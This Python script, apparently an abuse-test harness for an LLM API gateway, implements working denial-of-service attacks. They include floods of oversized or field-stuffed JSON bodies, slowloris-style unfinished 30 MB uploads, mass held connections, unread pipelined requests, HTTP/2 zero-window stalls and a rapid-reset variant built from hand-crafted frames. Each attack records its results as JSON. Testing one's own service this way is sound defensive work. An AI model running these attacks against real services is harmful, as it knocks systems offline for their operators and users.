"""One attack, in a process of its own: python onslaught.py NAME HOST PORT TLS-PORT SOURCE SECONDS

Prints one line of JSON at its end: what came of it.
"""

import asyncio
import collections
import contextlib
import json
import resource
import socket
import ssl
import struct
import sys
import time

PATH = "/v1/chat/completions"
KEY = "sk-attacker"


def head(length, path=PATH, extra=""):
    return (
        f"POST {path} HTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer {KEY}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {length}\r\n{extra}\r\n"
    ).encode()


def message(text="x"):
    return [{"role": "user", "content": text}]


def unknown_fields():
    """A body that is refused for its last field, so that upstream has nothing to do with it."""
    fields = ",".join(f'"f{number}":1' for number in range(60_000))
    return f'{{"model":"qwen-plus","messages":[{{"role":"user","content":"x"}}],{fields},"n":"many"}}'.encode()


class Onslaught:
    def __init__(self, host, port, tls, source, seconds):
        self.host, self.port, self.tls, self.source = host, port, tls, source
        self.end = time.monotonic() + seconds
        self.counts = collections.Counter()
        self.told = {}
        # No default context: it would read the machine's authorities.
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
        self.context.set_alpn_protocols(["h2"])

    @property
    def lasts(self):
        return time.monotonic() < self.end

    async def connect(self, small=False, port=None, context=None):
        own = socket.socket()
        own.setblocking(False)
        if small:
            own.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        own.bind((self.source, 0))
        try:
            async with asyncio.timeout(5):
                await asyncio.get_running_loop().sock_connect(own, (self.host, port or self.port))
                more = {"ssl": context, "server_hostname": "localhost"} if context else {}
                return await asyncio.open_connection(sock=own, limit=1 << 20, **more)
        except (OSError, TimeoutError):
            own.close()
            raise ConnectionError("not connected") from None

    async def post(self, body, seconds=30):
        """One request on a connection of its own; returns status, head and body of the answer."""
        try:
            reader, writer = await self.connect()
        except ConnectionError:
            self.counts["not connected"] += 1
            await asyncio.sleep(0.2)
            return 0, b"", b""
        try:
            async with asyncio.timeout(seconds):
                writer.write(head(len(body), extra="Connection: close\r\n"))
                for start in range(0, len(body), 1 << 18):
                    writer.write(body[start : start + (1 << 18)])
                    with contextlib.suppress(OSError):
                        await writer.drain()
                data = await reader.read(-1)
            lines, _, rest = data.partition(b"\r\n\r\n")
            status = int(lines.split(b" ")[1])
        except (OSError, TimeoutError, IndexError, ValueError):
            status, lines, rest = 0, b"", b""
        finally:
            writer.transport.abort()
        self.counts[str(status) if status else "no answer"] += 1
        return status, lines, rest

    async def flood(self, body, width):
        async def one():
            while self.lasts:
                await self.post(body, max(1, self.end - time.monotonic()))

        await asyncio.gather(*[one() for _ in range(width)])

    async def stay(self):
        await asyncio.sleep(max(0, self.end - time.monotonic()))

    # Cost.

    async def model_name(self):
        """Model names that are all separators."""
        names = ["-_:" * 8_400, "a-b_c:" * 16_000]
        await asyncio.gather(*[
            self.flood(json.dumps({"model": name, "messages": message()}).encode(), 4) for name in names
        ])

    async def unknown_fields(self):
        """Two thirds of a megabyte of fields that nobody knows."""
        await self.flood(unknown_fields(), 8)

    async def quotes(self):
        """33 MB of the shortest members: the most values that a body can hold."""
        start = b'{"model":"qwen-plus","messages":[{"role":"user","content":"x"}],'
        body = start + b'"":1,' * ((33_000_000 - len(start)) // 5) + b'"":1}'
        await self.flood(body, 4)

    async def pictures(self):
        """Fifty pictures with a field that is taken out and reported."""
        parts = [{"type": "image_url", "image_url": {"url": "https://pictures.example/1.png", "detail": "high"}}] * 50
        body = json.dumps({"model": "qwen-vl-plus", "messages": message(parts)}).encode()
        longest = 0
        while self.lasts:
            status, lines, _ = await self.post(body)
            longest = max(longest, max((len(line) for line in lines.split(b"\r\n")), default=0))
            self.told |= {"longest line": longest}
            await asyncio.sleep(0.05)

    # Not reading.

    async def pipelined(self):
        """Requests behind each other, their answers left in the socket."""
        paths = ["/v1/models", "/openapi.json", "/docs", "/metrics"]
        writers = []
        for index in range(16):
            path = paths[index % len(paths)]
            with contextlib.suppress(ConnectionError):
                _, writer = await self.connect(small=True)
                writer.transport.pause_reading()
                # Without a key where none is asked for.
                key = f"Authorization: Bearer {KEY}\r\n" if path.startswith("/v1") else ""
                writer.write(f"GET {path} HTTP/1.1\r\nHost: gateway\r\n{key}\r\n".encode() * 8_000)
                writers.append(writer)
        await self.stay()
        for writer in writers:
            writer.transport.abort()

    async def http2(self, settings=b""):
        reader, writer = await self.connect(port=self.tls, context=self.context)
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings))
        return reader, writer

    async def window(self):
        """HTTP/2 connections that ask for documents and allow no byte of them to be sent."""
        writers, gate = [], asyncio.Semaphore(8)
        streams = b"".join(frame(1, 5, 2 * number + 1, request("GET", "/openapi.json")) for number in range(100))

        async def one():
            async with gate:
                with contextlib.suppress(OSError, ConnectionError):
                    _, writer = await self.http2(setting(4, 0))
                    writer.write(streams)
                    writers.append(writer)

        await asyncio.gather(*[one() for _ in range(200)])
        self.told["connections"] = len(writers)
        await self.stay()
        for writer in writers:
            writer.transport.abort()

    # Memory.

    async def unfinished(self):
        """Two hundred bodies of 30 MB without their last byte."""
        piece = b" " * (1 << 18)
        writers = []

        async def one():
            try:
                reader, writer = await self.connect()
                writers.append(writer)
                writer.write(head(30 << 20))
                for _ in range((30 << 20) // len(piece) - 1):
                    writer.write(piece)
                    await asyncio.wait_for(writer.drain(), max(0.1, self.end - time.monotonic()))
                writer.write(piece[:-1])
                self.counts["taken"] += 1
            except (OSError, ConnectionError, TimeoutError):
                self.counts["refused"] += 1

        await asyncio.gather(*[one() for _ in range(200)])
        await self.stay()
        for writer in writers:
            writer.transport.abort()

    async def announced(self):
        """Three thousand lengths of 30 MB, a byte of each."""
        writers = []
        for _ in range(3_000):
            with contextlib.suppress(ConnectionError):
                _, writer = await self.connect()
                writer.write(head(30 << 20) + b"{")
                writers.append(writer)
        self.told["connections"] = len(writers)
        await self.stay()
        for writer in writers:
            writer.transport.abort()

    # Numbers.

    async def connections(self):
        """As many connections as one address can open."""
        writers, gate = [], asyncio.Semaphore(100)

        async def one():
            async with gate:
                with contextlib.suppress(ConnectionError, OSError):
                    _, writer = await self.connect()
                    writers.append(writer)

        await asyncio.gather(*[one() for _ in range(2_500)])
        self.told["connections"] = len(writers)
        await self.stay()
        for writer in writers:
            writer.transport.abort()

    async def waiting(self):
        """Five thousand requests that wait for their turn, each refused when it comes."""
        slow = json.dumps({"model": "emulator-slow-5000", "messages": message()}).encode()
        first = asyncio.create_task(self.post(slow))
        await asyncio.sleep(0.5)
        broken, opened, gate = b'{"model":', [], asyncio.Semaphore(8)
        block = request("POST", PATH, len(broken))
        streams = b"".join(
            frame(1, 4, 2 * number + 1, block) + frame(0, 1, 2 * number + 1, broken) for number in range(90)
        )

        async def one():
            async with gate:
                with contextlib.suppress(OSError, ConnectionError):
                    reader, writer = await self.http2()
                    writer.write(streams)
                    # Both: a writer that nobody holds closes.
                    opened.append((reader, writer))

        await asyncio.gather(*[one() for _ in range(56)])
        self.told["waited"] = not first.done()
        await first
        answers = await asyncio.gather(*[self.read_frames(reader, 2) for reader, _ in opened])
        # Every answer ends its stream.
        self.told["answered"] = sum(1 for frames in answers for kind, flags, *_ in frames if kind in (0, 1) and flags & 1)

    # HTTP/2.

    async def made_you_reset(self):
        """Streams that are opened well and then broken, so that the server resets them."""
        block = request("POST", PATH, length=None)
        while self.lasts:
            try:
                reader, writer = await self.http2()
                for number in range(400):
                    stream = 2 * number + 1
                    writer.write(frame(1, 4, stream, block))
                    # An increment of nothing is an error of the stream.
                    writer.write(frame(8, 0, stream, b"\0\0\0\0"))
                    self.counts["streams"] += 1
                await asyncio.wait_for(writer.drain(), 2)
                answer = await self.read_frames(reader, 2)
                self.counts["goaway"] += sum(1 for kind, *_ in answer if kind == 7)
                self.counts["connections"] += 1
                writer.transport.abort()
            except (OSError, ConnectionError, TimeoutError):
                self.counts["cut"] += 1
                await asyncio.sleep(0.05)

    async def acknowledge(self, reader, writer):
        """Waits for the server's settings, as a client does that opens as many streams as it may."""
        async with asyncio.timeout(5):
            while True:
                start = await reader.readexactly(9)
                await reader.readexactly(int.from_bytes(start[:3], "big"))
                if start[3] == 4 and not start[4] & 1:
                    writer.write(frame(4, 1, 0, b""))
                    return

    async def read_frames(self, reader, seconds):
        """The frames that come within the time: kind, flags, stream, payload."""
        frames = []
        with contextlib.suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
            async with asyncio.timeout(seconds):
                while True:
                    start = await reader.readexactly(9)
                    payload = await reader.readexactly(int.from_bytes(start[:3], "big"))
                    frames.append((start[3], start[4], int.from_bytes(start[5:], "big") & 0x7FFF_FFFF, payload))
        return frames

    async def stream_errors(self):
        """A hundred and ten streams on one connection, three of them broken: the others must be answered."""
        body = json.dumps({"model": "emulator-slow-300", "messages": message()}).encode()
        answered = broken = refused = 0
        rounds = 0
        while self.lasts:
            rounds += 1
            try:
                reader, writer = await self.http2(setting(4, 1 << 20))
                await self.acknowledge(reader, writer)
                wrong = {21, 41, 61}
                for number in range(110):
                    stream = 2 * number + 1
                    length = 5 if stream in wrong else len(body)
                    writer.write(frame(1, 4, stream, request("POST", PATH, length)))
                    writer.write(frame(0, 1, stream, body))
                await asyncio.wait_for(writer.drain(), 5)
                frames = await self.read_frames(reader, 3)
                writer.transport.abort()
            except (OSError, ConnectionError, TimeoutError, asyncio.IncompleteReadError):
                self.counts["cut"] += 1
                continue
            ended = {stream for kind, flags, stream, _ in frames if kind in (0, 1) and flags & 1}
            resets = {stream: int.from_bytes(data, "big") for kind, _, stream, data in frames if kind == 3}
            answered += len(ended - wrong)
            broken += len(wrong - ended)
            refused += sum(1 for code in resets.values() if code == 7)
        self.told |= {"rounds": rounds, "answered": answered, "refused": refused}

    async def flood_of_everything(self):
        """Costly bodies and connections that do not read, for the end of the process to get through."""
        slow = json.dumps({"model": "emulator-slow-1000", "messages": message(), "stream": True}).encode()
        await asyncio.gather(self.flood(unknown_fields(), 8), self.flood(slow, 20), self.pipelined())


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def setting(number, value):
    return struct.pack(">HI", number, value)


def request(method, path, length=None):
    """A header block of literals, without a table."""
    fields = [(":method", method), (":scheme", "https"), (":authority", "gateway"), (":path", path),
              ("authorization", f"Bearer {KEY}"), ("content-type", "application/json")]
    if length is not None:
        fields.append(("content-length", str(length)))
    return b"".join(
        bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode() for name, value in fields
    )


async def main():
    name, host, port, tls, source, seconds = sys.argv[1:]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    onslaught = Onslaught(host, int(port), int(tls), source, float(seconds))
    await getattr(onslaught, name)()
    print(json.dumps(dict(onslaught.counts) | onslaught.told))


if __name__ == "__main__":
    asyncio.run(main())
